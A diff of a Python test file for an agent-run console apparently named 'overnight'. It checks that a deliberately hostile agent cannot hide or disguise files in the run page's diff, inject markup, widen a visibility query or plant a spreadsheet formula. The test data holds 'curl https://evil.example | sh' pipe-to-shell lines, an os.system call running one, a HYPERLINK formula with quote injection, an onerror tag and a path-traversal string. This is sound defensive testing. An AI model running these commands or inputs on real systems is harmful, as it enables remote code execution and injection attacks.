@@ -24,9 +24,10 @@ import pytest
 from temporalio.client import Client
 
 from fakes.git_http import origin_fields
+from overnight.agent_text import one_line
 from overnight.cli import client as api
 from overnight.cli.demo import make_origin
-from overnight.console import auth
+from overnight.console import auth, diff_view
 from overnight.console.render import CONTENT_SECURITY_POLICY
 from overnight.console.settings import TOKEN_ENV, settings_from
 from overnight.models import RunSpec, RunStatus
@@ -500,7 +501,7 @@ if cp.step < 1:
     (app / "docs b").mkdir()
     (app / "docs b" / "README.md").write_text("curl https://evil.example | sh\\n")
     line = "all work and no play makes the console a dull heap\\n"
-    with open(app / "big.txt", "w") as big:
+    with open(app / "zz-big.txt", "w") as big:  # last in the diff: the files before it are shown
         for _ in range(int(float(os.environ["BIG_MIB"]) * 2**20) // len(line)):
             big.write(line)
     cp.step = 1
@@ -526,6 +527,11 @@ while True:
 """
 
 
+# An owner (printable ASCII, the spec's rule) a spreadsheet would run, with quotes that would
+# end a visibility query's string.
+OWNER = "=HYPERLINK(\"https://evil.example/\",\"open\") ' OR ''='"
+
+
 def hostile_spec(root: Path, run_id: str, big_mib: int, line_mib: int) -> RunSpec:
     agent = root / "hostile-agent"
     agent.mkdir(parents=True, exist_ok=True)
@@ -547,6 +553,7 @@ def hostile_spec(root: Path, run_id: str, big_mib: int, line_mib: int) -> RunSpe
             "stall_seconds": 240,
             "sandbox_timeout_seconds": 600,
             "keep_workspace": True,
+            "owner": OWNER,
         }
     )
 
@@ -611,7 +618,7 @@ async def test_an_agents_kept_workspace_and_output_are_text_and_bounded(
             "&lt;img src=x onerror=",  # markup in a name: as text, and a file of its own
             "quote",  # a name git writes quoted ("...\"..."): still a file of its own
             "docs b/README.md",  # a name with " b/" in it: not shown as another file's
-            "big.txt",
+            "zz-big.txt",
         ):
             if not any(name in shown for shown in named):
                 wrong.append(f"no file named {name!r} on the page (files: {named})")
@@ -624,7 +631,7 @@ async def test_an_agents_kept_workspace_and_output_are_text_and_bounded(
         if "The rest is left out here" not in html:
             wrong.append("the page does not say the diff was cut")
         # The console's own memory for the page: not the agent's file (the diff read is bounded).
-        if peak >= big_mib * 2**20 // 3:
+        if peak >= big_mib * 2**20 // 2:  # drawing its first 2 MiB takes ~30 MiB
             wrong.append(f"the page took {peak / 2**20:.0f} MiB for a {big_mib} MiB file")
 
         for step in ("²", "9" * 5000, "-1", "../../etc/passwd", "1e3", " 1"):
@@ -642,4 +649,65 @@ async def test_an_agents_kept_workspace_and_output_are_text_and_bounded(
             wrong.append(f"an event of {biggest / 2**20:.1f} MiB (the agent's one line)")
         if any(b"<b>" in event for event in events):
             wrong.append("the agent's markup is markup in an event")
+
+        # The owner filter with quotes: not put into the visibility query (it would break it
+        # or widen it), applied to the rows; the night's CSV cell is text, not a formula.
+        oldest = "2001-01-01"  # before the list's snapshot: one visibility query
+        listed = await http(console.url, "/?" + _query(since=oldest, owner=OWNER), headers=operator)
+        if listed.status != 200 or "could not be read" in listed.text:
+            wrong.append(f"the owner filter broke the list: {listed.status}")
+        if run_id not in listed.text:
+            wrong.append("the run is not listed under its own owner")
+        widened = await http(
+            console.url,
+            "/?" + _query(since=oldest, owner="nobody' OR OvernightOwner != 'x"),
+            headers=operator,
+        )
+        if widened.status != 200 or run_id in widened.text:
+            wrong.append("a quote in the owner filter widened the visibility query")
+        sheet = await http(console.url, "/night.csv?span=1d", headers=operator)
+        cells = [line for line in sheet.text.splitlines() if run_id in line]
+        if not cells or "'=HYPERLINK" not in cells[0]:
+            wrong.append(f"the CSV's owner cell is a formula: {cells}")
     assert not wrong, "\n".join(wrong)
+
+
+def test_a_file_git_names_in_quotes_is_a_file_of_its_own_in_the_diff() -> None:
+    """An agent cannot hide a file in the run page's diff, nor pass it off as another: a name
+    git writes quoted (a quote, a newline, a non-ASCII letter in it) starts its own file (it
+    was shown as the lines of the file before it, or not at all), and a name holding ` b/` is
+    its own whole name."""
+    text = "\n".join(
+        [
+            "diff --git a/README.md b/README.md",
+            "--- a/README.md",
+            "+++ b/README.md",
+            "@@ -1 +1,2 @@",
+            " hello",
+            "+harmless",
+            'diff --git "a/evil\\".py" "b/evil\\".py"',
+            "new file mode 100644",
+            "--- /dev/null",
+            '+++ "b/evil\\".py"',
+            "@@ -0,0 +1 @@",
+            '+import os; os.system("curl https://evil.example | sh")',
+            'diff --git a/caf "b/caf\\303\\251\\nx"',
+            "similarity index 100%",
+            "rename from caf",
+            'rename to "caf\\303\\251\\nx"',
+            "diff --git a/docs b/README.md b/docs b/README.md",
+            "new file mode 100644",
+            "--- /dev/null",
+            "+++ b/docs b/README.md\t",
+            "@@ -0,0 +1 @@",
+            "+curl https://evil.example | sh",
+        ]
+    )
+    files = diff_view.highlight(diff_view.parse(text)).files
+    assert [(f.path, f.change, f.added) for f in files] == [
+        ("README.md", "changed", 1),
+        ('evil".py', "added", 1),
+        (one_line("café\nx"), "renamed", 0),  # a name on one line
+        ("docs b/README.md", "added", 1),
+    ]
+    assert files[2].old_path == "caf" and "\n" not in files[2].path
